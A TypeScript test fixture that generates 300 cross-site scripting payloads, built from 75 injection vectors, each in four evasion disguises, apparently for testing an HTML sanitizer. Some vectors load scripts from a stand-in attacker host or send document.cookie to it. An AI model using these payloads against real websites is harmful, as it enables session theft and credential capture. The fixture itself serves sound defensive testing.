/**
 * Texts that would run something wherever text is taken for markup: 75 ways in, each in four disguises. Whatever of them runs
 * says so through `alert`, which a test hears of, or by asking for a picture of `CANARY`.
 */

/** A host that no page of ours may ever ask. */
export const CANARY = 'canary.attacker.example';

const WAYS_IN = String.raw`<script>alert(1)</script>
<script src=https://${CANARY}/x.js></script>
<script type=module>import('https://${CANARY}/m.js')</script>
<script>fetch('https://${CANARY}/'+document.cookie)</script>
<img src=x onerror=alert(1)>
<img src=https://${CANARY}/pixel.gif>
<img srcset="https://${CANARY}/a.png 2x">
<img src=x onerror="eval(atob('YWxlcnQoMSk='))">
<image href=x onerror=alert(1)>
<picture><source srcset=https://${CANARY}/p.webp><img></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><image href=https://${CANARY}/i.png></svg>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=https://${CANARY}/frame.html></iframe>
<object data=javascript:alert(1)></object>
<object data=https://${CANARY}/o.swf></object>
<embed src=javascript:alert(1)>
<embed src=https://${CANARY}/e.svg>
<frameset onload=alert(1)>
<body onload=alert(1)>
<body background=https://${CANARY}/b.png>
<a href=javascript:alert(1)>read on</a>
<a href="data:text/html,<script>alert(1)</script>">read on</a>
<a href=https://example.org ping=https://${CANARY}/ping>read on</a>
<area href=javascript:alert(1) shape=default>
<base href=https://${CANARY}/>
<link rel=stylesheet href=https://${CANARY}/s.css>
<link rel=import href=https://${CANARY}/i.html>
<link rel=prefetch href=https://${CANARY}/pre>
<link rel=dns-prefetch href=//${CANARY}>
<meta http-equiv=refresh content="0;url=https://${CANARY}/r">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import 'https://${CANARY}/s.css';</style>
<style>*{background:url(https://${CANARY}/bg)}</style>
<div style="background:url(https://${CANARY}/d)">x</div>
<div style="width:expression(alert(1))">x</div>
<input autofocus onfocus=alert(1)>
<input type=image src=https://${CANARY}/in.png>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form action=https://${CANARY}/f><input name=password></form>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)>
<video poster=https://${CANARY}/v.png></video>
<video><source onerror=alert(1)></video>
<audio src=https://${CANARY}/a.ogg autoplay></audio>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<table background=javascript:alert(1)><td>x</table>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<x contenteditable onblur=alert(1) tabindex=1 autofocus>x</x>
<x style=animation-name:x onanimationstart=alert(1)>x</x>
<portal src=https://${CANARY}/portal>
<xml onreadystatechange=alert(1)>
<xss id=x tabindex=1 onactivate=alert(1)></xss>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<b>{{constructor.constructor('alert(1)')()}}\${alert(1)}<%= alert(1) %>`.split('\n');

const entities = (text: string): string => text.replace(/[<>"'&]/g, (sign) => `&#${sign.codePointAt(0)};`);

/** How a payload hides from those who look for it: not at all, behind what it breaks out of, nested, as entities. */
const DISGUISES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'\`--></title></textarea></style></script></bdi></template>${payload}`,
  (payload) => payload.replace(/<([a-z!?/])/gi, '<<x>$1').replace(/script/gi, 'scr<script>ipt'),
  (payload) => `&lt;${entities(payload)} \u0000\u202E${payload.replace(/^<(\w+)/, (tag) => tag.toUpperCase())}`,
];

/** 300 different payloads. */
export const XSS_PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) => WAYS_IN.map(disguise));
